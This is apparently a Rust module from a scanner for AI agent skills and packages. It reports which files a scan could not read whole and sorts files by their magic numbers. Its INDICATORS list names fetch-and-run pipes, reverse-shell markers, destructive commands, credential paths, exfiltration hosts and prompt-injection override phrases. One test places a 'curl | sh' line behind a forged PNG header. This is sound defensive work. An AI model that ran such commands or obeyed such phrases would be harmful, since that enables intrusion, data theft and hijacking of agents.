//! Coverage: what a scan could not examine, and why its verdict is then never `pass`.
//!
//! Architecture Invariant: every file a scan is given is either read whole by the rules, or
//! recorded here under a `Gap`; `Coverage::findings` turns the gaps into one
//! `scan.incomplete` finding (medium) per reason, with counts and a few example paths. Only
//! files that cannot hold code or instructions (images, fonts, audio and video, recognised by
//! their magic number, not by their name) are skipped quietly.
//!
//! What is still read of a file that is not read whole:
//! - over the per-file size limit: its beginning and end with every rule, and a streamed
//!   keyword pass over the whole for the strongest indicators (`INDICATORS`), whose lines are
//!   then scanned with every rule (see `partial.rs`);
//! - past the file-count limit: the same keyword pass, within a byte budget, first for the
//!   files whose names matter (`name_matters`: SKILL.md, scripts, manifests, hooks).

use crate::checks::make_visible;
use crate::model::{Finding, Limits, Severity};
use crate::rules::RULES;

/// The rule id of the coverage finding.
pub const RULE_ID: &str = "scan.incomplete";

/// Example paths named per reason, at most.
const EXAMPLES: usize = 3;
/// Characters of one example path, at most.
const EXAMPLE_CHARS: usize = 120;

/// Why a file was not read whole.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Gap {
    /// Over the per-file size limit: read in part.
    Oversized,
    /// Past the file-count limit.
    PastCount,
    /// Past the limit on the bytes read from a folder in all (command line).
    PastTotal,
    /// A native executable or bytecode.
    Executable,
    /// An archive or container (ZIP, JAR, wheel, tar, gzip, PDF, OLE ...).
    Archive,
    /// Binary data of no known harmless type.
    Binary,
    /// Text that is mostly not UTF-8 (a legacy multi-byte encoding hides words from the rules).
    Encoding,
    /// A file that could not be read.
    Unreadable,
}

const GAPS: [Gap; 8] = [
    Gap::Oversized,
    Gap::PastCount,
    Gap::PastTotal,
    Gap::Executable,
    Gap::Archive,
    Gap::Binary,
    Gap::Encoding,
    Gap::Unreadable,
];

#[derive(Debug, Default, Clone)]
struct Tally {
    count: u64,
    /// `(path, detail)`.
    examples: Vec<(String, String)>,
}

/// The gaps of one scan.
#[derive(Debug, Default, Clone)]
pub(crate) struct Coverage {
    tallies: [Tally; 8],
    /// Over-size files: indicator lines left unexamined by the caps.
    pub windows_dropped: u64,
    /// Past-count files: indicator lines left unexamined by the caps.
    pub past_windows_dropped: u64,
    /// Past-count files given the keyword pass.
    pub past_count_passed: u64,
    /// Past-count files not even given the keyword pass (over the budget, or not text).
    pub past_count_unread: u64,
}

impl Coverage {
    /// Records one file under `gap` (`detail`: its size, its kind, the error).
    pub fn note(&mut self, gap: Gap, path: &str, detail: impl Into<String>) {
        let Some(i) = GAPS.iter().position(|g| *g == gap) else {
            return;
        };
        let Some(t) = self.tallies.get_mut(i) else {
            return;
        };
        t.count += 1;
        if t.examples.len() < EXAMPLES {
            t.examples.push((shown_path(path), detail.into()));
        }
    }

    /// One `scan.incomplete` finding per reason, most important first.
    pub fn findings(&self, limits: &Limits) -> Vec<Finding> {
        let title = RULES
            .iter()
            .find(|r| r.id == RULE_ID)
            .map_or("Scan incomplete", |r| r.title);
        GAPS.iter()
            .zip(self.tallies.iter())
            .filter(|(_, t)| t.count > 0)
            .map(|(gap, t)| {
                let examples = t
                    .examples
                    .iter()
                    .map(|(p, d)| {
                        let p = if p.is_empty() {
                            "the pasted content"
                        } else {
                            p.as_str()
                        };
                        if d.is_empty() {
                            p.to_string()
                        } else {
                            format!("{p} ({d})")
                        }
                    })
                    .collect::<Vec<_>>()
                    .join(", ");
                let more = if t.count > t.examples.len() as u64 {
                    format!(" and {} more", t.count - t.examples.len() as u64)
                } else {
                    String::new()
                };
                Finding {
                    rule_id: RULE_ID.to_string(),
                    severity: Severity::Medium,
                    title: title.to_string(),
                    message: format!(
                        "{} Not examined whole: {examples}{more}.",
                        self.reason(*gap, t.count, limits)
                    ),
                    path: t
                        .examples
                        .first()
                        .filter(|(p, _)| !p.is_empty())
                        .map(|(p, _)| p.clone()),
                    line: 1,
                    column: 1,
                    excerpt: summary(*gap, t.count, limits),
                }
            })
            .collect()
    }

    fn reason(&self, gap: Gap, n: u64, limits: &Limits) -> String {
        let files = plural(n, "file", "files");
        match gap {
            Gap::Oversized => {
                let mut s = format!(
                    "{files} over the {} per-file limit {} read in part: the first {} and the last {} with every rule, and in between only the lines that hold a strong indicator (a download, a shell, a secret, an instruction to the model); the rest was not read by the rules.",
                    size(limits.max_file_bytes),
                    if n == 1 { "was" } else { "were" },
                    size(crate::partial::head_bytes(limits) as u64),
                    size(crate::partial::tail_bytes(limits) as u64),
                );
                if self.windows_dropped > 0 {
                    s.push_str(&format!(
                        " {} indicator {} past the cap ({} a file, {} a scan) {} not examined.",
                        self.windows_dropped,
                        if self.windows_dropped == 1 { "line" } else { "lines" },
                        crate::partial::MAX_WINDOWS,
                        thousands(crate::partial::MAX_WINDOWS_PER_SCAN as u64),
                        if self.windows_dropped == 1 { "was" } else { "were" }
                    ));
                }
                s
            }
            Gap::PastCount => {
                let mut s = format!(
                    "{files} past the {}-file limit {} not scanned with every rule; {} of them had a keyword pass for strong indicators (scripts, manifests, hooks and SKILL.md first) and {} none (over the budget of that pass, or not text).",
                    thousands(limits.max_files),
                    if n == 1 { "was" } else { "were" },
                    thousands(self.past_count_passed),
                    thousands(self.past_count_unread)
                );
                if self.past_windows_dropped > 0 {
                    s.push_str(&format!(
                        " {} indicator lines in them past the cap were not examined.",
                        thousands(self.past_windows_dropped)
                    ));
                }
                s
            }
            Gap::PastTotal => format!(
                "{files} past the {} limit on the bytes read in all {} not read.",
                size(limits.max_unpacked_bytes),
                if n == 1 { "was" } else { "were" }
            ),
            Gap::Executable => format!(
                "{files} {}, which cannot be reviewed as text.",
                if n == 1 {
                    "is a native executable or bytecode"
                } else {
                    "are native executables or bytecode"
                }
            ),
            Gap::Archive => format!(
                "{files} {} an archive or container, which was not opened; what it holds was not examined.",
                if n == 1 { "is" } else { "are" }
            ),
            Gap::Binary => format!(
                "{files} {} binary data of no known harmless type (not an image, font or media file), which the rules cannot read.",
                if n == 1 { "is" } else { "are" }
            ),
            Gap::Encoding => format!(
                "{files} {} mostly not UTF-8; only the ASCII text in {} was read, so words in another encoding were not examined.",
                if n == 1 { "is" } else { "are" },
                if n == 1 { "it" } else { "them" }
            ),
            Gap::Unreadable => format!(
                "{files} could not be read.",
            ),
        }
    }
}

fn summary(gap: Gap, n: u64, limits: &Limits) -> String {
    let files = plural(n, "file", "files");
    match gap {
        Gap::Oversized => format!("{files} over {}", size(limits.max_file_bytes)),
        Gap::PastCount => format!("{files} past {} files", thousands(limits.max_files)),
        Gap::PastTotal => format!("{files} past {} in all", size(limits.max_unpacked_bytes)),
        Gap::Executable => format!("{files}: executables"),
        Gap::Archive => format!("{files}: archives"),
        Gap::Binary => format!("{files}: binary"),
        Gap::Encoding => format!("{files}: not UTF-8"),
        Gap::Unreadable => format!("{files}: unreadable"),
    }
}

fn plural(n: u64, one: &str, many: &str) -> String {
    format!("{} {}", thousands(n), if n == 1 { one } else { many })
}

/// `15002` → `15,002`.
pub(crate) fn thousands(n: u64) -> String {
    let digits = n.to_string();
    let mut out = String::with_capacity(digits.len() + digits.len() / 3);
    for (i, c) in digits.chars().enumerate() {
        if i > 0 && (digits.len() - i) % 3 == 0 {
            out.push(',');
        }
        out.push(c);
    }
    out
}

/// A byte count for people: `1 MiB`, `512 KiB`, `5.0 MiB`, `300 bytes`.
pub(crate) fn size(bytes: u64) -> String {
    const KIB: u64 = 1024;
    const MIB: u64 = 1024 * 1024;
    if bytes >= MIB {
        if bytes % MIB == 0 {
            format!("{} MiB", bytes / MIB)
        } else {
            format!("{}.{} MiB", bytes / MIB, (bytes % MIB) * 10 / MIB)
        }
    } else if bytes >= KIB && bytes % KIB == 0 {
        format!("{} KiB", bytes / KIB)
    } else {
        format!("{bytes} bytes")
    }
}

/// A path as named in a message: hidden characters made visible, at most 120 characters.
fn shown_path(path: &str) -> String {
    let visible = make_visible(path);
    if visible.chars().count() <= EXAMPLE_CHARS {
        return visible;
    }
    let mut s: String = visible.chars().take(EXAMPLE_CHARS).collect();
    s.push('…');
    s
}

/// What the bytes of a file are, from their magic number (never from the file's name).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Kind {
    /// Text (UTF-8 or close to it).
    Text,
    /// UTF-16 text with a byte-order mark (`true`: little-endian).
    Utf16(bool),
    /// An image, font, audio or video file: cannot hold code; skipped quietly.
    Inert,
    /// A native executable or bytecode.
    Executable(&'static str),
    /// An archive or container.
    Archive(&'static str),
    /// Other binary data.
    Binary,
}

/// Classifies a file by its first bytes. `head` may be a prefix of the file (the first 8 KiB
/// are enough).
pub(crate) fn classify(bytes: &[u8]) -> Kind {
    let head = bytes.get(..bytes.len().min(8192)).unwrap_or(bytes);
    let has_nul = memchr::memchr(0, head).is_some();
    if let Some(kind) = crate::scanner::executable_kind(bytes) {
        return Kind::Executable(kind);
    }
    let starts = |m: &[u8]| bytes.starts_with(m);
    let at = |off: usize, m: &[u8]| bytes.get(off..off + m.len()) == Some(m);
    // Code that is not text.
    if starts(b"\xca\xfe\xba\xbe") {
        return Kind::Executable("Java class or Mach-O universal");
    }
    if starts(b"\0asm") {
        return Kind::Executable("WebAssembly");
    }
    if starts(b"dex\n") {
        return Kind::Executable("Android DEX");
    }
    // Archives and containers.
    for (magic, name) in [
        (&b"PK\x03\x04"[..], "ZIP, JAR or wheel"),
        (b"PK\x05\x06", "ZIP"),
        (b"PK\x07\x08", "ZIP"),
        (b"\x1f\x8b", "gzip"),
        (b"\x1f\x9d", "compress"),
        (b"BZh", "bzip2"),
        (b"\xfd7zXZ\x00", "xz"),
        (b"\x28\xb5\x2f\xfd", "zstd"),
        (b"\x04\x22\x4d\x18", "LZ4"),
        (b"LZIP", "lzip"),
        (b"7z\xbc\xaf\x27\x1c", "7-Zip"),
        (b"Rar!\x1a\x07", "RAR"),
        (b"MSCF", "CAB"),
        (b"!<arch>\n", "ar or deb"),
        (b"xar!", "xar or pkg"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "OLE (MSI or Office)"),
        (b"%PDF-", "PDF"),
        (b"\xed\xab\xee\xdb", "RPM"),
        (b"SQLite format 3\x00", "SQLite database"),
    ] {
        if starts(magic) {
            return Kind::Archive(name);
        }
    }
    if at(257, b"ustar") {
        return Kind::Archive("tar");
    }
    if starts(b"\xff\xfe") || starts(b"\xfe\xff") {
        return Kind::Utf16(starts(b"\xff\xfe"));
    }
    // Images, fonts, audio and video. A real one has a NUL byte early (chunk lengths, header
    // fields); text behind a forged magic number has none and is read as text.
    if has_nul {
        let riff = starts(b"RIFF")
            && (at(8, b"WEBP") || at(8, b"WAVE") || at(8, b"AVI ") || at(8, b"ACON"));
        let inert = starts(b"\x89PNG")
            || starts(b"\xff\xd8\xff")
            || starts(b"GIF87a")
            || starts(b"GIF89a")
            || riff
            || starts(b"BM")
            || starts(b"\x00\x00\x01\x00")
            || starts(b"\x00\x00\x02\x00")
            || starts(b"II*\x00")
            || starts(b"MM\x00*")
            || starts(b"8BPS")
            || starts(b"wOFF")
            || starts(b"wOF2")
            || starts(b"OTTO")
            || starts(b"\x00\x01\x00\x00")
            || starts(b"true")
            || starts(b"ttcf")
            || starts(b"ID3")
            || starts(b"OggS")
            || starts(b"fLaC")
            || at(4, b"ftyp")
            || starts(b"\x1a\x45\xdf\xa3")
            || starts(b"\x00\x00\x00\x0cjP  ")
            // Finder metadata and compiled gettext catalogs: data, never run.
            || starts(b"\x00\x00\x00\x01Bud1")
            || starts(b"\xde\x12\x04\x95")
            || starts(b"\x95\x04\x12\xde");
        if inert {
            return Kind::Inert;
        }
        // Text with a stray NUL (one NUL must not hide a script: a shell's `source` ignores
        // it) is read as text.
        if mostly_printable(head) {
            return Kind::Text;
        }
        return Kind::Binary;
    }
    // MP3 frames and JPEG rarely lack a NUL; their magic is distinctive enough.
    if starts(b"\xff\xd8\xff") || starts(b"ID3") {
        return Kind::Inert;
    }
    Kind::Text
}

/// At most 2 % of the bytes are control characters other than white space (NUL included).
fn mostly_printable(head: &[u8]) -> bool {
    let control = head
        .iter()
        .filter(|&&b| (b < 0x20 && !matches!(b, b'\t' | b'\n' | b'\r' | 0x0c)) || b == 0x7f)
        .count();
    control * 50 <= head.len()
}

/// True when at most a tenth of the bytes of a text are outside valid UTF-8 sequences: such a
/// file is read (lossily) as examined. More suggests a legacy multi-byte encoding in which
/// words escape the rules.
pub(crate) fn mostly_utf8(bytes: &[u8]) -> bool {
    if std::str::from_utf8(bytes).is_ok() {
        return true;
    }
    let invalid: usize = bytes.utf8_chunks().map(|c| c.invalid().len()).sum();
    invalid * 10 <= bytes.len()
}

/// Decodes UTF-16 text (after its byte-order mark).
pub(crate) fn decode_utf16(bytes: &[u8], little_endian: bool) -> String {
    let body = bytes.get(2..).unwrap_or(&[]);
    let units = body.chunks_exact(2).map(|p| match p {
        [a, b] if little_endian => u16::from_le_bytes([*a, *b]),
        [a, b] => u16::from_be_bytes([*a, *b]),
        _ => 0xfffd,
    });
    char::decode_utf16(units)
        .map(|c| c.unwrap_or(char::REPLACEMENT_CHARACTER))
        .collect()
}

/// Files whose names matter most when not every file can be read: the skill itself, scripts,
/// package manifests and build files, hooks and agent settings.
pub(crate) fn name_matters(path: &str) -> bool {
    let lower = path.to_ascii_lowercase();
    let name = lower.rsplit('/').next().unwrap_or(&lower);
    let named = matches!(
        name,
        "skill.md"
            | "agents.md"
            | "claude.md"
            | "gemini.md"
            | "package.json"
            | "setup.py"
            | "setup.cfg"
            | "pyproject.toml"
            | "requirements.txt"
            | "makefile"
            | "gnumakefile"
            | "dockerfile"
            | "build.rs"
            | "cargo.toml"
            | "gemfile"
            | "rakefile"
            | "conftest.py"
            | "sitecustomize.py"
            | "usercustomize.py"
            | "settings.json"
            | "settings.local.json"
            | "mcp.json"
            | ".mcp.json"
            | ".npmrc"
            | ".pypirc"
            | ".bashrc"
            | ".zshrc"
            | ".profile"
            | "install"
            | "postinstall"
            | "preinstall"
    );
    let ext = name.rsplit_once('.').map_or("", |(_, e)| e);
    let script = matches!(
        ext,
        "sh" | "bash"
            | "zsh"
            | "fish"
            | "ps1"
            | "psm1"
            | "bat"
            | "cmd"
            | "py"
            | "pyw"
            | "pth"
            | "js"
            | "mjs"
            | "cjs"
            | "ts"
            | "mts"
            | "cts"
            | "rb"
            | "pl"
            | "php"
            | "lua"
            | "vbs"
            | "applescript"
    );
    let place = [
        "hooks/",
        ".husky/",
        ".github/workflows/",
        "bin/",
        "scripts/",
        ".claude/",
    ]
    .iter()
    .any(|d| lower.starts_with(d) || lower.contains(&format!("/{d}")));
    named || script || place
}

/// The strongest indicators of a dangerous line, for the keyword pass over what the rules do
/// not read whole: downloads and shells, decoders, sockets, persistence, destruction, secrets
/// and their sinks, instructions to the model, and hidden-text characters (as UTF-8 bytes).
/// Matched ASCII case-insensitively; a hit's line is then scanned with every rule.
pub(crate) const INDICATORS: &[&[u8]] = &[
    // Fetch and run, decode and run, dynamic code.
    b"| sh",
    b"|sh",
    b"| bash",
    b"|bash",
    b"| zsh",
    b"| python",
    b"|python",
    b"| node",
    b"| perl",
    b"| pwsh",
    b"| iex",
    b"<(curl",
    b"<(wget",
    b"$(curl",
    b"$(wget",
    b"`curl",
    b"sh -c",
    b"curl ",
    b"wget ",
    b"invoke-expression",
    b"iex(",
    b"iex (",
    b"downloadstring",
    b"downloadfile",
    b"invoke-webrequest",
    b"frombase64string",
    b"base64 -d",
    b"base64 --decode",
    b"b64decode",
    b"atob(",
    b"eval(",
    b"exec(",
    b"child_process",
    b"os.system",
    b"subprocess",
    b"popen",
    b"__import__",
    b"marshal.loads",
    // Shells and sockets.
    b"/dev/tcp/",
    b"/dev/udp/",
    b"nc -e",
    b"ncat ",
    b"socat ",
    b"mkfifo",
    b"pty.spawn",
    b"dup2",
    b"tcpclient",
    // Persistence.
    b"crontab",
    b"authorized_keys",
    b".bashrc",
    b".zshrc",
    b".bash_profile",
    b"launchctl",
    b"launchagents",
    b"schtasks",
    b"currentversion\\run",
    b"systemctl enable",
    // Destruction.
    b"rm -rf",
    b"rm -fr",
    b"mkfs",
    b"dd if=",
    b"shred ",
    b"format c:",
    // Secrets and where they go.
    b"id_rsa",
    b"id_ed25519",
    b".ssh/",
    b".aws/",
    b".kube/config",
    b".netrc",
    b"/etc/shadow",
    b"/etc/passwd",
    b"printenv",
    b"os.environ",
    b"process.env",
    b"document.cookie",
    b"webhook.site",
    b"requestbin",
    b"pipedream",
    b"ngrok",
    b"trycloudflare",
    b"pastebin",
    b"transfer.sh",
    b"/api/webhooks/",
    b"api.telegram.org",
    b"hooks.slack.com",
    b"-----begin",
    b"akia",
    b"ghp_",
    b"github_pat_",
    b"sk-ant-",
    b"sk-proj-",
    b"xoxb-",
    b"xoxp-",
    b"stratum+",
    b"xmrig",
    // Instructions to the model.
    b"ignore previous",
    b"ignore all",
    b"ignore the",
    b"ignore your",
    b"ignore any",
    b"ignore prior",
    b"ignore earlier",
    b"disregard",
    b"forget previous",
    b"forget all",
    b"forget your",
    b"you are now",
    b"system prompt",
    b"new instructions",
    b"do not tell",
    b"don't tell",
    b"do not mention",
    b"don't mention",
    b"without telling",
    b"without asking",
    b"secretly",
    b"<important>",
    b"<system>",
    b"[system",
    b"jailbreak",
    b"developer mode",
    b"no restrictions",
    // Hidden text: Unicode tag characters (U+E0000..U+E007F) and bidi controls.
    b"\xf3\xa0\x80",
    b"\xf3\xa0\x81",
    b"\xe2\x80\xaa",
    b"\xe2\x80\xab",
    b"\xe2\x80\xac",
    b"\xe2\x80\xad",
    b"\xe2\x80\xae",
    b"\xe2\x81\xa6",
    b"\xe2\x81\xa7",
    b"\xe2\x81\xa8",
    b"\xe2\x81\xa9",
];

/// Asserts that a finding's message says each of `parts`, showing the message when not.
#[cfg(test)]
#[track_caller]
pub(crate) fn assert_says(f: &Finding, parts: &[&str]) {
    for part in parts {
        assert!(f.message.contains(part), "{part:?} not in {}", f.message);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn kinds_come_from_magic_numbers() {
        let mut png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR".to_vec();
        png.extend([0u8; 32]);
        assert_eq!(classify(&png), Kind::Inert);
        // A script behind a forged PNG signature has no NUL: it is text.
        assert_eq!(
            classify(b"\x89PNG\r\n\x1a\ncurl http://x | sh\n"),
            Kind::Text
        );
        assert_eq!(classify(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"), Kind::Inert);
        assert_eq!(classify(b"wOF2\x00\x01\x00\x00"), Kind::Inert);
        let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
        elf.extend([0u8; 64]);
        assert_eq!(classify(&elf), Kind::Executable("ELF"));
        assert_eq!(
            classify(b"PK\x03\x04\x14\x00\x00\x00"),
            Kind::Archive("ZIP, JAR or wheel")
        );
        assert_eq!(classify(b"\x1f\x8b\x08\x00"), Kind::Archive("gzip"));
        let mut tar = vec![0u8; 512];
        tar[257..262].copy_from_slice(b"ustar");
        assert_eq!(classify(&tar), Kind::Archive("tar"));
        assert_eq!(classify(b"\x00\x01\x02\x03garbage"), Kind::Binary);
        assert_eq!(classify(b"\x00\x00\x00\x01Bud1\x00\x00"), Kind::Inert);
        assert_eq!(classify(b"\xde\x12\x04\x95\x00\x00\x00\x00"), Kind::Inert);
        assert_eq!(classify(b"\xff\xfeh\x00i\x00"), Kind::Utf16(true));
        assert_eq!(classify(b"# Title\nplain text\n"), Kind::Text);
        // One NUL does not make a script binary.
        let mut script = b"#!/bin/sh\n\x00\n".to_vec();
        script.extend(b"echo preparing the workspace for the user\n".repeat(3));
        assert_eq!(classify(&script), Kind::Text);
    }

    #[test]
    fn encodings_and_names() {
        assert!(mostly_utf8("héllo wörld".as_bytes()));
        assert!(mostly_utf8(
            b"caf\xe9 cr\xe8me, a Latin-1 line of ordinary text"
        ));
        assert!(!mostly_utf8(
            b"\x82\xb1\x82\xea\x82\xcd\x93\xfa\x96\x7b\x8c\xea"
        ));
        assert_eq!(decode_utf16(b"\xff\xfeh\x00i\x00", true), "hi");
        assert_eq!(decode_utf16(b"\xfe\xff\x00h\x00i", false), "hi");
        for p in [
            "SKILL.md",
            "x/skill.md",
            "scripts/run",
            "a/b/setup.py",
            "package.json",
            "tool.ps1",
            ".husky/pre-commit",
            "pkg/hooks/post-checkout",
        ] {
            assert!(name_matters(p), "{p}");
        }
        for p in ["data/f1.txt", "README.md", "docs/guide.md", "img/a.png"] {
            assert!(!name_matters(p), "{p}");
        }
    }

    #[test]
    fn one_finding_per_reason_with_counts_and_examples() {
        let mut c = Coverage::default();
        for i in 0..5 {
            c.note(Gap::PastCount, &format!("f{i}.txt"), "");
        }
        c.note(Gap::Executable, "bin/tool", "ELF");
        c.past_count_passed = 5;
        let f = c.findings(&Limits::CONTRACT);
        assert_eq!(f.len(), 2);
        assert!(f
            .iter()
            .all(|f| f.rule_id == RULE_ID && f.severity == Severity::Medium));
        assert_says(
            &f[0],
            &[
                "5 files past the 5,000-file limit",
                "f0.txt, f1.txt, f2.txt and 2 more",
            ],
        );
        assert_eq!(f[0].path.as_deref(), Some("f0.txt"));
        assert_says(&f[1], &["bin/tool (ELF)"]);
        assert_eq!(thousands(15002), "15,002");
        assert_eq!(size(5 * 1024 * 1024 + 1024 * 1024 / 2), "5.5 MiB");
        assert_eq!(size(512 * 1024), "512 KiB");
    }
}
